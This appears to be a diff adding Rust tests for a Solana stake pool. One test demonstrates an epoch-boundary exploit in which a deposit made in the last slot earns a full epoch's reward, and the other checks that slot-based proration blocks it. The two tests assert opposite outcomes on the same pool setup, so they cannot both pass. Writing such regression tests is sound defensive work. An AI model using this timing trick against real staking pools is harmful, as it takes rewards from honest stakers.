@@ -0,0 +1,51 @@
+#[tokio::test]
+async fn test_epoch_boundary_exploit() {
+    println!("\n=== EXPLOIT: Full Epoch Reward For One Slot Of Stake ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_stake_pool(10).await; // 0.1% per epoch
+
+    println!("1. Mallory deposits 100,000 SOL in the last slot of epoch N");
+    warp_to_last_slot_of_epoch(N).await;
+    deposit(&pool, &mallory, 100_000 * LAMPORTS_PER_SOL).await.unwrap();
+
+    println!("\n2. First slot of epoch N+1: withdraw");
+    warp_to_epoch(N + 1).await;
+    let before = get_balance(&mallory.pubkey()).await;
+    withdraw(&pool, &mallory).await.unwrap();
+    let received = get_balance(&mallory.pubkey()).await - before;
+
+    // Vulnerable: deposit epoch counted as a full epoch
+    assert!(received >= 100_100 * LAMPORTS_PER_SOL);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 100 SOL reward for a single slot of stake");
+}
+
+#[tokio::test]
+async fn test_first_epoch_prorated() {
+    println!("\n=== SECURITY: Deposit Epoch Prorated By Slots ===\n");
+
+    let mallory = Keypair::new();
+    let alice = Keypair::new();
+    let pool = create_stake_pool(10).await;
+
+    println!("1. Alice deposits at the first slot of epoch N");
+    warp_to_epoch(N).await;
+    deposit(&pool, &alice, 100_000 * LAMPORTS_PER_SOL).await.unwrap();
+
+    println!("\n2. Mallory deposits at the last slot of epoch N");
+    warp_to_last_slot_of_epoch(N).await;
+    deposit(&pool, &mallory, 100_000 * LAMPORTS_PER_SOL).await.unwrap();
+    let weight = get_position(&mallory).await.first_epoch_weight;
+    assert!(weight <= 3); // 1 / 432,000 scaled by 1,000,000
+    println!("   ✓ First-epoch weight {} / 1,000,000", weight);
+
+    println!("\n3. Both withdraw at the start of epoch N+1");
+    warp_to_epoch(N + 1).await;
+    let mallory_reward = withdraw_and_measure_reward(&pool, &mallory).await;
+    let alice_reward = withdraw_and_measure_reward(&pool, &alice).await;
+    assert!(mallory_reward < LAMPORTS_PER_SOL / 1_000);
+    assert_eq!(alice_reward, 100 * LAMPORTS_PER_SOL);
+    println!("   ✓ Alice earns the full epoch, Mallory ~nothing");
+}